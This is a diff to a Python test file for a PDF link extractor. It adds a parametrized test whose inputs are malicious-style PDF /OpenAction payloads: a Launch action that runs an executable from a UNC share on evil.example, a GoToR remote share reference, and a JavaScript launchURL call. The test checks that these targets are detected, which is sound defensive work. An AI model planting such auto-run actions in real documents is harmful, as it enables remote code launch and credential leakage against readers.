@@ -135,6 +135,18 @@ def test_targets_of_actions_are_links() -> None:
     assert {"https://form.example/post", "https://hex.example"} <= set(urls(inside))
 
 
+@pytest.mark.parametrize(
+    ("action", "target"),
+    [
+        (b"<</S/Launch/F(\\\\\\\\evil.example\\\\x\\\\a.exe)>>", "\\\\evil.example\\x\\a.exe"),
+        (b"<</S/GoToR/F(\\\\\\\\evil.example\\\\x)/D[0/Fit]>>", "\\\\evil.example\\x"),
+        (b"<</S/JavaScript/JS(app.launchURL\\('http://evil.example/x'\\))>>", "http://evil.example/x"),
+    ],
+)
+def test_file_shares_and_addresses_in_scripts_are_links(action: bytes, target: str) -> None:
+    assert target in urls(opened(pdf(link(b"http://a.example/"), root=b"/OpenAction" + action)))
+
+
 def test_actions_in_packed_object_streams_are_found() -> None:
     packed = zlib.compress(b"20 0 <</S/URI/URI(https://hidden.example/\\(x\\))>>")
     stream = b"<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
